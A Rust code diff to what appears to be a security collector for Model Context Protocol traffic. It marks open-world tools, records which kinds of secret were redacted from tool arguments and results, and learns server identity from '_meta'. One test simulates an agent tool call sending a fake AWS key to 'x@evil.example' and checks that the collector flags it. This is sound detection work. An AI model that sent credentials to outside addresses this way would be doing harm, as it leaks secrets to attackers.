@@ -23,6 +23,16 @@ const MAX_PENDING: usize = 4096;
 const PENDING_TIMEOUT_MICROS: i64 = 300 * 1_000_000;
 /// How much of a malformed message is kept for the analyst.
 const MALFORMED_EXCERPT_BYTES: usize = 512;
+/// Tools of one connection remembered as open-world (`annotations.openWorldHint`); past it
+/// new ones are not remembered (a hostile server must not grow the collector's memory).
+const MAX_OPEN_WORLD_TOOLS: usize = 1024;
+
+/// Attributes the collector adds (docs/collect.md): the kinds of secret redacted from a
+/// call's arguments and from its result (never a value), and whether the server marked the
+/// tool as reaching outside systems.
+pub const SECRETS_IN_ARGUMENTS: &str = "mcp.secrets.in_arguments";
+pub const SECRETS_IN_RESULT: &str = "mcp.secrets.in_result";
+pub const TOOL_OPEN_WORLD: &str = "mcp.tool.open_world";
 
 /// When a message was seen: the wall-clock time for the event, the monotonic instant for
 /// durations.
@@ -38,6 +48,13 @@ impl Seen {
     }
 }
 
+/// A server's name and version, as it announced them.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct ServerIdentity {
+    pub name: Option<String>,
+    pub version: Option<String>,
+}
+
 /// A request waiting for its response.
 struct Pending {
     event: OwnedEvent,
@@ -51,13 +68,15 @@ pub struct Observer {
     pending: HashMap<(Direction, String), Pending>,
     /// Insertion order of `pending`, for evicting the oldest.
     order: std::collections::VecDeque<(Direction, String)>,
+    /// Tools the server listed with `openWorldHint: true`.
+    open_world: std::collections::HashSet<String>,
 }
 
 impl Observer {
     /// `template` holds the fields every event of this connection shares (transport,
     /// collector, server command or address…); its id, time and kind are replaced.
     pub fn new(template: OwnedEvent, capture: Capture) -> Self {
-        Self { template, capture, pending: HashMap::new(), order: Default::default() }
+        Self { template, capture, pending: HashMap::new(), order: Default::default(), open_world: Default::default() }
     }
 
     /// The shared fields, for a caller that learns more (an HTTP exchange's status, token
@@ -168,6 +187,9 @@ impl Observer {
         e.request_id = Some(id.clone().into());
         e.message_type = Some(MessageType::Request);
         describe_params(&mut e, &method, params.as_ref(), &self.capture);
+        if method == "tools/call" && e.tool_name.as_ref().is_some_and(|t| self.open_world.contains(t.as_str())) {
+            e.attributes.insert(TOOL_OPEN_WORLD, &Value::Bool(true));
+        }
         let key = (direction, id);
         if let Some(previous) = self.pending.remove(&key) {
             // The same id reused before an answer: record the first as unanswered.
@@ -228,7 +250,7 @@ impl Observer {
     }
 
     /// One tool-definition event per tool of a `tools/list` result.
-    fn tool_definitions(&self, result: &Value, now: Timestamp, out: &mut Vec<OwnedEvent>) {
+    fn tool_definitions(&mut self, result: &Value, now: Timestamp, out: &mut Vec<OwnedEvent>) {
         let Some(tools) = result.get("tools").and_then(Value::as_array) else { return };
         for tool in tools {
             let mut e = self.event(EventKind::ToolDefinition, now, Direction::ServerToClient);
@@ -241,6 +263,17 @@ impl Observer {
             e.tool_description = Some(captured.text.into());
             if let Some(schema) = tool.get("inputSchema") {
                 e.tool_input_schema_hash = Some(canonical_json_sha256(schema).into());
+            }
+            let open_world = tool.pointer("/annotations/openWorldHint").and_then(Value::as_bool) == Some(true);
+            if let Some(name) = e.tool_name.as_ref().map(|n| n.as_str().to_owned()) {
+                if open_world && self.open_world.len() < MAX_OPEN_WORLD_TOOLS {
+                    self.open_world.insert(name);
+                } else if !open_world {
+                    self.open_world.remove(&name);
+                }
+            }
+            if open_world {
+                e.attributes.insert(TOOL_OPEN_WORLD, &Value::Bool(true));
             }
             out.push(e);
         }
@@ -266,10 +299,14 @@ impl Observer {
         }
     }
 
-    /// Server identity and the negotiated revision from a result (`initialize`, or a
-    /// stateless server's discovery answer).
+    /// Server identity and the negotiated revision from a result: `initialize` (2025
+    /// revisions) names the server in the result; from the 2026-07-28 revision on, every
+    /// result may name it in `_meta` (`io.modelcontextprotocol/serverInfo`), `server/discover`
+    /// included, and there is no `initialize` to learn it from.
     fn learn_from_result(&mut self, result: &Value, e: &mut OwnedEvent) {
-        if let Some(server) = result.get("serverInfo") {
+        let server =
+            result.get("serverInfo").or_else(|| result.get("_meta").and_then(|meta| find_suffix(meta, "/serverInfo")));
+        if let Some(server) = server {
             if let Some(name) = server.get("name").and_then(Value::as_str) {
                 self.template.server_name = Some(name.to_owned().into());
                 e.server_name = self.template.server_name.clone();
@@ -282,6 +319,23 @@ impl Observer {
         if let Some(version) = result.get("protocolVersion").and_then(Value::as_str) {
             self.template.protocol_version = Some(version.to_owned().into());
             e.protocol_version = self.template.protocol_version.clone();
+        }
+    }
+
+    /// The server's name and version as learned so far.
+    pub fn server_identity(&self) -> ServerIdentity {
+        ServerIdentity {
+            name: self.template.server_name.as_ref().map(|n| n.as_str().to_owned()),
+            version: self.template.server_version.as_ref().map(|v| v.as_str().to_owned()),
+        }
+    }
+
+    /// Starts from an identity learned elsewhere (another exchange with the same upstream);
+    /// what this connection learns itself replaces it.
+    pub fn assume_server_identity(&mut self, identity: &ServerIdentity) {
+        if self.template.server_name.is_none() {
+            self.template.server_name = identity.name.clone().map(Into::into);
+            self.template.server_version = identity.version.clone().map(Into::into);
         }
     }
 
@@ -379,6 +433,7 @@ fn describe_params(e: &mut OwnedEvent, method: &str, params: Option<&Value>, cap
             e.tool_name = params.get("name").and_then(Value::as_str).map(|n| n.to_owned().into());
             let arguments = params.get("arguments").cloned().unwrap_or(Value::Object(Map::new()));
             let captured = capture.arguments(&arguments.to_string());
+            note_secrets(e, SECRETS_IN_ARGUMENTS, &captured.secrets);
             e.tool_arguments = Some(captured.text.into());
             e.tool_arguments_truncated = Some(captured.truncated);
         }
@@ -405,8 +460,16 @@ fn describe_tool_result(e: &mut OwnedEvent, result: &Value, capture: &Capture) {
         None => whole,
     };
     let captured = capture.result(&text);
+    note_secrets(e, SECRETS_IN_RESULT, &captured.secrets);
     e.tool_result = Some(captured.text.into());
     e.tool_result_truncated = Some(captured.truncated);
+}
+
+/// Records which kinds of secret were redacted from a field, when there were any.
+pub(crate) fn note_secrets(e: &mut OwnedEvent, attribute: &str, kinds: &[&str]) {
+    if !kinds.is_empty() {
+        e.attributes.insert(attribute, &Value::from(kinds.to_vec()));
+    }
 }
 
 /// A resource read's contents as text, so injected instructions in resources are matched
@@ -419,6 +482,7 @@ fn describe_resource_contents(e: &mut OwnedEvent, result: &Value, capture: &Capt
         None => whole,
     };
     let captured = capture.result(&text);
+    note_secrets(e, SECRETS_IN_RESULT, &captured.secrets);
     e.tool_result = Some(captured.text.into());
     e.tool_result_truncated = Some(captured.truncated);
 }
@@ -598,6 +662,87 @@ mod tests {
         assert_eq!(out[0].protocol_version.as_deref(), Some("2026-07-28"));
         assert_eq!(out[0].error_type.as_deref(), Some("no_response"));
         assert_eq!(o.pending(), 0);
+    }
+
+    /// What the TypeScript SDK 2.3 sends for the 2026-07-28 revision (captured from it):
+    /// no `initialize`, the server named only in each result's `_meta`.
+    #[test]
+    fn a_stateless_server_is_named_by_its_results_meta() {
+        let mut o = observer();
+        let meta = json!({"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientInfo":{"name":"scenario-client","version":"1.0.0"},"io.modelcontextprotocol/clientCapabilities":{}});
+        let server_meta = json!({"io.modelcontextprotocol/serverInfo":{"name":"attack","version":"1.0.0"}});
+        send(
+            &mut o,
+            C2S,
+            json!({"jsonrpc":"2.0","id":"server-discover-probe-1","method":"server/discover","params":{"_meta":meta}}),
+        );
+        let out = send(
+            &mut o,
+            S2C,
+            json!({"jsonrpc":"2.0","id":"server-discover-probe-1","result":{"supportedVersions":["2026-07-28"],"capabilities":{"tools":{}},"resultType":"complete","_meta":server_meta}}),
+        );
+        assert_eq!(out[0].server_name.as_deref(), Some("attack"));
+        assert_eq!(out[0].protocol_version.as_deref(), Some("2026-07-28"));
+        send(&mut o, C2S, json!({"jsonrpc":"2.0","id":0,"method":"tools/list","params":{"_meta":meta}}));
+        let out = send(
+            &mut o,
+            S2C,
+            json!({"jsonrpc":"2.0","id":0,"result":{"tools":[{"name":"fetch_config","description":"d","inputSchema":{}}],"_meta":server_meta}}),
+        );
+        assert_eq!(out.len(), 2);
+        assert!(out.iter().all(|e| e.server_name.as_deref() == Some("attack")), "{out:?}");
+        assert_eq!(out[1].client_name.as_deref(), Some("scenario-client"));
+        assert_eq!(o.server_identity(), ServerIdentity { name: Some("attack".into()), version: Some("1.0.0".into()) });
+
+        // A new observer of the same upstream starts from what another exchange learned.
+        let mut fresh = observer();
+        fresh.assume_server_identity(&o.server_identity());
+        send(&mut fresh, C2S, json!({"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"x","_meta":meta}}));
+        let out = send(&mut fresh, S2C, json!({"jsonrpc":"2.0","id":5,"result":{"content":[]}}));
+        assert_eq!(out[0].server_name.as_deref(), Some("attack"));
+    }
+
+    #[test]
+    fn secrets_are_recorded_by_kind_and_open_world_tools_are_marked() {
+        let mut o = observer();
+        send(&mut o, C2S, json!({"jsonrpc":"2.0","id":1,"method":"tools/list"}));
+        let out = send(
+            &mut o,
+            S2C,
+            json!({"jsonrpc":"2.0","id":1,"result":{"tools":[
+                {"name":"fetch_config","description":"d","inputSchema":{}},
+                {"name":"send_report","description":"d","inputSchema":{},"annotations":{"openWorldHint":true}}]}}),
+        );
+        assert_eq!(out[2].attributes.get(TOOL_OPEN_WORLD).map(|v| v.get()), Some("true"));
+        assert!(out[1].attributes.get(TOOL_OPEN_WORLD).is_none());
+
+        send(
+            &mut o,
+            C2S,
+            json!({"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"fetch_config","arguments":{}}}),
+        );
+        let out = send(
+            &mut o,
+            S2C,
+            json!({"jsonrpc":"2.0","id":2,"result":{"content":[{"type":"text","text":"DB=postgres://app:Pg-pw-1@db/prod\nKEY=AKIAZ7Q3EXAMPLE4KEY1"}]}}),
+        );
+        let text = out[0].tool_result.as_deref().unwrap();
+        assert!(!text.contains("Pg-pw-1") && !text.contains("AKIAZ7Q3EXAMPLE4KEY1"), "{text}");
+        assert_eq!(
+            out[0].attributes.get(SECRETS_IN_RESULT).map(|v| v.get()),
+            Some(r#"["aws_access_key","url_password"]"#)
+        );
+        assert!(out[0].attributes.get(TOOL_OPEN_WORLD).is_none());
+
+        send(
+            &mut o,
+            C2S,
+            json!({"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"send_report","arguments":{"to":"x@evil.example","body":"AKIAZ7Q3EXAMPLE4KEY1"}}}),
+        );
+        let out = send(&mut o, S2C, json!({"jsonrpc":"2.0","id":3,"result":{"content":[]}}));
+        assert_eq!(out[0].attributes.get(SECRETS_IN_ARGUMENTS).map(|v| v.get()), Some(r#"["aws_access_key"]"#));
+        assert_eq!(out[0].attributes.get(TOOL_OPEN_WORLD).map(|v| v.get()), Some("true"));
+        assert!(out[0].attributes.get(SECRETS_IN_RESULT).is_none());
     }
 
     #[test]
